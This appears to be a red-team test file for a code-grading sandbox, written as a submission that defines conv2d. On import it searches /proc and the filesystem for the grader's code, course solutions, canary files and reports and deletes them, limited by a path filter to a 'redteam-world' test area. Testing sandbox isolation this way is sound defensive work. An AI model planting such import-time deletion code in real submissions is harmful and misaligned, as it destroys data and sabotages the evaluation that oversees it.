"""Attack (7, damage): delete what the grading machine holds -- the canary folder, the
course's files (checks, course.yaml, solutions), earlier reports, and the grader's own code
(found from `grader.__file__` and the zygote's command line) -- all found from the worker,
not given. Only in the test's world (redteam-world-*, the suite's safety rail). Expected:
every deletion refused or invisible, nothing changed outside scratch, 0 points."""
import glob
import os
import re
import sys

WORLD_RE = re.compile(r"/(?:[^/\s'\"=]+/)*redteam-world-\w+")


def _ancestors(limit=6):
    out, pid = [], os.getppid()
    while pid > 1 and len(out) < limit:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
            with open(f"/proc/{pid}/stat") as f:
                next_pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        out.append((pid, argv))
        pid = next_pid
    return out


def _worlds():
    names = [os.getcwd(), *sys.path]
    for pid, argv in _ancestors():
        names += argv
        try:
            names.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    names += glob.glob("/srv/redteam-world-*")
    return sorted({m for n in names for m in WORLD_RE.findall(n)})


def _targets():
    found = []
    try:
        import grader
        found += glob.glob(os.path.join(os.path.dirname(grader.__file__), "*.py"))
    except Exception:
        pass
    for world in _worlds():
        for pattern in ("canary/*", "course/*", "course/*/*", "course/*/*/*", "results/*.json",
                        "pkg/grader/*.py", "pkg/grader/sandbox/*.py"):
            found += glob.glob(os.path.join(world, pattern))
    return [p for p in found if "/redteam-world-" in p and os.path.isfile(p)]  # safety rail


def _attack():
    deleted = 0
    for path in _targets():
        try:
            os.remove(path)
            deleted += 1
        except OSError:
            pass
    return deleted


DELETED = _attack()


def conv2d(input, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    raise RuntimeError(f"deleted {DELETED + _attack()} files of the grading machine")
